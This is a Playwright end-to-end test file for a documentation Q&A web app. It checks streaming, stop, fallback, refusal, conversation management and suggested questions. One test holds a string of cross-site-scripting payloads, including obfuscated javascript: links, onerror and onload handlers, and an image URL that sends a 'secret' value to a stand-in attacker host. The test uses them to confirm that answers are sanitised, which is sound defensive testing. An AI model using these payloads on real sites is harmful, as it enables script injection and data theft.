"""Questions in the real page: written and streamed, stopped, refused, hostile, kept and found again."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from tests.e2e.pages import ask, visit
from tests.e2e.world import QUESTION, World, world

pytestmark = pytest.mark.timeout(120)

LONG = "Twelve birds sit on a perch [1]. " + " ".join(f"Word{n}" for n in range(60)) + " and that is all."


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with world(tmp_path_factory.mktemp("data"), written=True) as running:
        running.roost.start()
        with running.roost.client() as client:
            running.read_site(client)
        yield running


@pytest.fixture
def page(here: World, browser: Browser) -> Iterator[Page]:
    here.llm.fault = None
    here.llm.pause_s = 0.0
    here.llm.release()
    with visit(browser, here.roost.base_url, "/ask") as visited:
        yield visited


def answer(page: Page) -> Locator:
    return page.get_by_role("article").last


def words(page: Page) -> Locator:
    """The answer's own text, without what is only said to screen readers."""
    return answer(page).locator(".answer-text")


def titles(page: Page) -> Locator:
    return page.get_by_role("complementary", name="Conversations").get_by_role("listitem")


def test_a_written_answer_streams_with_its_citations(here: World, page: Page) -> None:
    """S003-8: question and answer are stored; a reload shows the same."""
    here.llm.say(LONG)
    here.llm.pause_s = 0.03
    ask(page, QUESTION)
    expect(answer(page)).to_contain_text("Word5")
    expect(answer(page)).not_to_contain_text("and that is all.")
    expect(answer(page)).to_contain_text("and that is all.")
    expect(answer(page).get_by_role("button", name="Source 1: Perches")).to_be_visible()
    expect(answer(page)).to_contain_text("Written by")
    page.reload()
    expect(answer(page)).to_contain_text("Twelve birds")
    expect(answer(page)).to_contain_text("and that is all.")


def test_a_reload_in_the_middle_goes_on_with_the_same_answer(here: World, page: Page) -> None:
    here.llm.say(LONG)
    here.llm.pause_s = 0.05
    asked_before = len(here.llm.received)
    ask(page, QUESTION)
    expect(answer(page)).to_contain_text("Word3")
    page.reload()
    expect(answer(page)).to_contain_text("Word3")
    expect(answer(page)).to_contain_text("and that is all.")
    assert words(page).inner_text().count("and that is all.") == 1
    assert len(here.llm.received) == asked_before + 1


def test_stop_keeps_the_text_so_far(here: World, page: Page) -> None:
    here.llm.say(LONG)
    here.llm.pause_s = 0.1
    ask(page, QUESTION)
    expect(answer(page)).to_contain_text("Word1")
    page.get_by_role("button", name="Stop").click()
    expect(answer(page)).to_contain_text("Stopped. This is the text so far.")
    page.reload()
    expect(answer(page)).to_contain_text("Word1")
    expect(answer(page)).not_to_contain_text("and that is all.")


@pytest.mark.parametrize("fault", ["500", "cut", "refuse"])
def test_a_dying_endpoint_falls_back_to_passages_and_says_so(here: World, page: Page, fault: str) -> None:
    here.llm.say(LONG)
    here.llm.fault = fault
    ask(page, QUESTION)
    expect(answer(page)).to_contain_text("holds up to twelve birds")
    expect(answer(page)).to_contain_text("Quoted passages")
    expect(answer(page)).not_to_have_attribute("aria-busy", "true")
    shown = answer(page).locator("p:not(.sr-only)", has_text="Here is what the docs say.")
    expect(shown).to_have_count(1)


def test_what_the_docs_do_not_say_is_refused_with_the_nearest_pages(here: World, page: Page) -> None:
    ask(page, "Which submarine torpedoes does Luxembourg sell?")
    expect(answer(page)).to_contain_text(re.compile("docs don.t say", re.IGNORECASE))
    expect(answer(page)).not_to_contain_text("Written by")


def test_conversations_are_listed_renamed_found_exported_and_deleted(here: World, page: Page) -> None:
    """S003-21: conversations persist with their full history. Defect 13: nothing of a deleted one is left."""
    here.llm.say("Ringing is done in the zephyr hour [1].")
    ask(page, "What ring does a bird carry?")
    expect(answer(page)).to_contain_text("zephyr")
    page.get_by_role("button", name="New conversation").click()
    here.llm.say("The flock leaves in September [1].")
    ask(page, "When does migration begin?")
    expect(answer(page)).to_contain_text("September")

    row = titles(page).filter(has_text="What ring does a bird carry?")
    row.hover()
    row.get_by_role("button", name="Actions for").click()
    page.get_by_role("menuitem", name="Rename").click()
    page.get_by_role("dialog", name="Rename").get_by_label("Title").fill("Leg rings")
    page.get_by_role("dialog", name="Rename").get_by_role("button", name="Save").click()
    expect(titles(page).filter(has_text="Leg rings")).to_be_visible()

    search = page.get_by_role("searchbox", name="Search titles and texts")
    search.fill("zephyr")
    expect(titles(page)).to_have_count(1)
    expect(titles(page)).to_contain_text("Leg rings")
    search.fill("leg RINGS")
    expect(titles(page)).to_have_count(1)
    search.fill("zzz-nothing")
    expect(page.get_by_text("Nothing found for “zzz-nothing”.")).to_be_visible()
    search.fill("")

    row = titles(page).filter(has_text="Leg rings")
    for item, holds in (("Export as Markdown", "# Leg rings"), ("Export as JSON", '"title"')):
        row.hover()
        row.get_by_role("button", name="Actions for").click()
        with page.expect_download() as downloaded:
            page.get_by_role("menuitem", name=item).click()
        text = Path(downloaded.value.path()).read_text()
        assert holds in text
        assert "zephyr" in text
        if "JSON" in item:
            json.loads(text)

    row.get_by_role("link").click()
    expect(answer(page)).to_contain_text("zephyr")
    row.hover()
    row.get_by_role("button", name="Actions for").click()
    page.get_by_role("menuitem", name="Delete").click()
    page.get_by_role("dialog", name="Delete this conversation?").get_by_role("button", name="Delete").click()
    expect(titles(page).filter(has_text="Leg rings")).to_have_count(0)
    expect(page.get_by_role("heading", name="Ask your docs anything.")).to_be_visible()
    search.fill("zephyr")
    expect(page.get_by_text("Nothing found for “zephyr”.")).to_be_visible()


HOSTILE = """Hello <script>document.title = 'pwned'</script> <img src=x onerror="document.title='pwned'">

[one](javascript:document.title='pwned') [two](&#106;avascript:document.title='pwned')
[three](java&Tab;script:alert(1)) [four](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>

![logo](https://evil.example/?q=secret) ![data](data:image/svg+xml,<svg/onload=alert(1)>)

<iframe src="https://evil.example/"></iframe><style>body{display:none}</style> [1] the end"""


def test_hostile_answers_are_inert(here: World, page: Page) -> None:
    """Hostile case 52. Hostile case 53. Hostile case 54. Script, script links and foreign
    pictures in an answer. Requests to another origin fail the visit itself.
    """
    here.llm.say(HOSTILE)
    ask(page, QUESTION + " <script>document.title='pwned'</script>")
    expect(answer(page)).to_contain_text("the end")
    expect(answer(page)).to_contain_text("Written by")
    conversation = page.get_by_role("list", name="Conversation", exact=True)
    assert conversation.locator("script, img, iframe, style").count() == 0
    for link in conversation.get_by_role("link").all():
        assert str(link.get_attribute("href")).startswith((here.site.url, here.roost.base_url, "/"))
    assert "pwned" not in page.title()
    expect(conversation.get_by_text("<script>document.title='pwned'</script>").first).to_be_visible()


def test_what_to_ask_next_comes_from_the_docs_and_a_press_asks_it(here: World, page: Page) -> None:
    here.llm.say("Twelve birds sit on a perch [1].")
    ask(page, QUESTION)
    suggested = page.get_by_role("list", name="Ask next").get_by_role("button")
    expect(suggested.first).to_be_visible()
    question = suggested.first.inner_text()
    assert "How it works" in question
    suggested.first.click()
    expect(page.get_by_role("article")).to_have_count(2)
    expect(page.get_by_text(question).first).to_be_visible()
    expect(answer(page)).to_contain_text("Twelve birds")
